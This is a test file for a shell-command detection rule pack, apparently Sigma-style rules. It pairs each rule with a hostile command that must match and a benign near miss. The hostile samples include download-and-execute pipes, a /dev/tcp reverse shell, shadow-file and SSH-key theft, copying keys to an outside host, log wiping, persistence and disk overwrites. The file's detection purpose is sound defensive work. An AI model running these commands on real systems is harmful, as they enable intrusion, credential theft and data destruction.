/**
 * One command that must match and one near miss that must not, per built-in rule. These lines are
 * written by hand and kept apart from the corpus the quality bench measures (bench/detect-corpus/).
 */
import { readdirSync } from 'node:fs';
import { basename } from 'node:path';
import { describe, expect, it } from 'vitest';
import { builtinDir, compileRuleSet, evaluate, loadRules } from '../../src/detect/sigma/index.ts';

const cases: Record<string, [hit: string, nearMiss: string]> = {
  st_download_pipe_to_interpreter: [
    'wget -O - https://203.0.113.7/boot | dash',
    'wget -O - https://example.org/notes.txt | less',
  ],
  st_download_then_execute: [
    'curl -o ./agent https://x.test/a && chmod u+x ./agent && ./agent',
    'curl -o notes.txt https://x.test/n && wc -l notes.txt',
  ],
  st_decode_pipe_to_shell: [
    'printf %s aWQK | base64 --decode | zsh',
    'printf %s aWQK | base64 --decode | wc -c',
  ],
  st_computed_command_name: ['$(printf cm0K | base64 -d) -f /srv/app.db', 'ls $(printf /srv)'],
  st_reverse_shell: [
    'zsh -c "zmodload zsh/net/tcp; exec 3<>/dev/tcp/198.51.100.4/8081"',
    'nc -zv 198.51.100.4 8081',
  ],
  st_history_tampering: ['export HISTSIZE=0; whoami', 'export HISTTIMEFORMAT="%F %T "'],
  st_log_file_tampering: ['shred -n1 /var/log/secure-20261201', 'sudo tail -n 200 /var/log/secure'],
  st_logging_agent_stopped: [
    'sudo systemctl mask --now systemd-journald.socket',
    'sudo systemctl reload rsyslog',
  ],
  st_shadow_file_access: ["awk -F: '{print $2}' /etc/shadow", 'stat -c %a /etc/shadow'],
  st_cloud_credentials_access: [
    'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'curl -s http://169.254.169.254/latest/meta-data/hostname',
  ],
  st_ssh_private_key_access: ['xxd ~/.ssh/id_ecdsa', 'ssh-keygen -y -f ~/.ssh/id_ecdsa'],
  st_user_account_created: ['adduser mallory', 'sudo useradd -r -s /sbin/nologin exporter'],
  st_privilege_granted: [
    'printf "eve ALL=(ALL) NOPASSWD: ALL\\n" | sudo tee /etc/sudoers.d/eve',
    'sudo grep -c eve /etc/group',
  ],
  st_cron_persistence: ['echo "0 3 * * * /var/tmp/.u" | crontab -', 'crontab -l | grep backup'],
  st_ssh_authorized_keys_write: [
    'wget -qO- https://x.test/k.pub >> /home/admin/.ssh/authorized_keys',
    'wc -l ~/.ssh/authorized_keys',
  ],
  st_systemd_or_startup_persistence: [
    'cp /dev/shm/svc.service /etc/systemd/system/svc.service',
    'systemctl cat nginx.service',
  ],
  st_firewall_disabled: ['sudo ip6tables --flush', 'sudo ip6tables -L -n'],
  st_destructive_delete: ['sudo rm -r --force /var/lib/redis', 'rm -r --force ./var/lib/redis-copy'],
  st_disk_overwrite_redirect: ['head -c 1G /dev/zero > /dev/vdb', 'head -c 1G /dev/zero > /tmp/zeros'],
  st_container_escape: [
    'docker run --rm -it --volume=/:/hostfs busybox sh',
    'docker run --rm -it --volume=/srv/data:/data busybox sh',
  ],
  st_package_from_url: [
    'sudo zypper install -y http://198.51.100.9/tools.rpm',
    'sudo zypper install -y tmux',
  ],
  st_downloaded_package_installed: [
    'wget https://x.test/tool.deb; sudo dpkg -i tool.deb',
    'wget https://x.test/tool.tar.gz; tar xzf tool.tar.gz',
  ],
};

/**
 * One pair per tuning made after the detect-quality bench's benign corpus showed a false positive
 * (the near miss is that kind of line, the hit is the attack the tuning must still see). Written by
 * hand, so no corpus line is among them.
 */
const tunings: [file: string, hit: string, nearMiss: string][] = [
  // A wrapper's own event (sudo, env, nohup...) no longer escapes the metadata-tool filters.
  ['st_shadow_file_access', 'sudo -u root nohup cat /etc/gshadow', 'sudo stat -c %U /etc/gshadow'],
  [
    'st_shadow_file_access',
    'sudo cp /etc/shadow /dev/shm/s',
    'sudo auditctl -w /etc/shadow -p rwa -k shadow-read',
  ],
  ['st_ssh_private_key_access', 'sudo head -3 /root/.ssh/id_rsa', 'sudo lsattr /root/.ssh/id_rsa'],
  ['st_cloud_credentials_access', 'sudo -E cat /root/.aws/credentials', 'sudo ls -la /root/.aws/credentials'],
  // The key given with -i is used, not copied; a second .ssh path on the line is a copy.
  [
    'st_ssh_private_key_access',
    'scp -i ~/.ssh/ops.pem /root/.ssh/id_ed25519 x@198.51.100.20:/tmp/',
    'scp -i ~/.ssh/ops.pem site.tgz ops@10.9.8.7:/var/tmp/',
  ],
  [
    'st_ssh_private_key_access',
    'rsync -a /home/kim/.ssh/ x@198.51.100.20:/srv/loot/',
    'rsync -a -e "ssh -i /home/kim/.ssh/id_rsa" ./site/ kim@10.9.8.7:/srv/site/',
  ],
  [
    'st_ssh_private_key_access',
    'tar cf /tmp/k.tar /home/kim/.ssh/*',
    'cp ~/.ssh/known_hosts ~/.ssh/known_hosts.old',
  ],
  // *.pem searches count over the whole disk or the home directories only.
  ['st_ssh_private_key_access', 'find /home -iname "*.pem"', 'find /srv/certs -iname "*.pem"'],
  // find over /var/log by age (-mtime +N, N >= 2) is retention; recent files or no age are not.
  [
    'st_log_file_tampering',
    'find /var/log -mtime -2 -name "*.log" -delete',
    'find /var/log/httpd -name "*.log-*" -mtime +21 -delete',
  ],
  [
    'st_log_file_tampering',
    'find /var/log -type f -mtime +1 | xargs truncate -s0',
    'find /var/log -type f -mtime +45 | xargs rm -f',
  ],
  // Reading the cron spool installs nothing; writing into it does.
  [
    'st_cron_persistence',
    'cp /dev/shm/c /var/spool/cron/crontabs/root',
    'sudo ls -l /var/spool/cron/crontabs',
  ],
  // systemctl kill with a reload signal is a reload; any other signal still stops the agent.
  [
    'st_logging_agent_stopped',
    'sudo systemctl kill --signal=SIGKILL rsyslog',
    'sudo systemctl kill --signal=SIGHUP rsyslog',
  ],
  // System accounts are not logins, unless they are a second root or get a login shell.
  [
    'st_user_account_created',
    'useradd -r -o -u 0 -s /usr/sbin/nologin svc-mon',
    'sudo adduser --system --no-create-home --group blackbox',
  ],
  [
    'st_user_account_created',
    'sudo adduser --system --shell /bin/bash svcbak',
    'sudo adduser --system --home /var/lib/exporter exporter',
  ],
  [
    'st_user_account_created',
    'sudo useradd -r -s /bin/bash svcbak',
    'sudo useradd -r -M -s /usr/sbin/nologin exporter',
  ],
  // A repository or key added from a URL installs nothing; CloudWatch's own agent URL is AWS's.
  [
    'st_package_from_url',
    'sudo dnf -y install http://198.51.100.9/pkgs/agent-2.rpm',
    'sudo dnf config-manager --add-repo https://rpm.releases.hashicorp.com/AmazonLinux/hashicorp.repo',
  ],
  [
    'st_package_from_url',
    'sudo rpm -Uvh https://198.51.100.9/amazon-cloudwatch-agent.rpm',
    'sudo rpm -Uvh https://s3.amazonaws.com/amazoncloudwatch-agent/redhat/arm64/latest/amazon-cloudwatch-agent.rpm',
  ],
  // The vendor allow-list holds for the only URL of the command, not for a substring anywhere.
  [
    'st_package_from_url',
    'sudo yum -y install http://198.51.100.9/a.rpm http://198.51.100.9/b?://dl.fedoraproject.org/',
    'sudo dnf -y install https://dl.fedoraproject.org/pub/epel/epel-release-latest-10.noarch.rpm',
  ],
  [
    'st_package_from_url',
    'sudo rpm -ivh http://198.51.100.9/a.rpm --define=x://amazon-ssm-',
    'sudo yum install -y https://amazon-ssm-eu-west-1.s3.eu-west-1.amazonaws.com/latest/linux_arm64/amazon-ssm-agent.rpm',
  ],
];

const { rules, report } = loadRules({ builtin: true, dirs: [] });
const set = compileRuleSet(rules);

describe('built-in rule pack', () => {
  it('loads every file, each with id, author, level, ATT&CK tags and false-positive notes', () => {
    const files = readdirSync(builtinDir).filter((f) => f.endsWith('.yml'));
    expect(report).toMatchObject({ loaded: files.length, skipped: [], notApplicable: [] });
    expect(Object.keys(cases).sort()).toEqual(files.map((f) => basename(f, '.yml')).sort());
    for (const rule of rules) {
      expect(rule.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
      expect(rule.author).toBe('shelltrail');
      expect(rule.tags.some((t) => /^attack\.t\d{4}/.test(t))).toBe(true);
      expect(rule.falsepositives?.length).toBeGreaterThan(0);
      expect(['low', 'medium', 'high', 'critical']).toContain(rule.level);
    }
  });

  for (const [file, [hit, nearMiss]] of Object.entries(cases)) {
    it(`${file}: matches "${hit}" but not "${nearMiss}"`, () => {
      const rule = rules.find((r) => basename(r.source, '.yml') === file);
      expect(rule).toBeDefined();
      expect(evaluate(set, { text: hit }).map((r) => r.id)).toContain(rule!.id);
      expect(evaluate(set, { text: nearMiss }).map((r) => r.id)).not.toContain(rule!.id);
    });
  }

  for (const [file, hit, nearMiss] of tunings) {
    it(`${file} (tuned): matches "${hit}" but not "${nearMiss}"`, () => {
      const rule = rules.find((r) => basename(r.source, '.yml') === file);
      expect(rule).toBeDefined();
      expect(evaluate(set, { text: hit }).map((r) => r.id)).toContain(rule!.id);
      expect(evaluate(set, { text: nearMiss }).map((r) => r.id)).not.toContain(rule!.id);
    });
  }
});
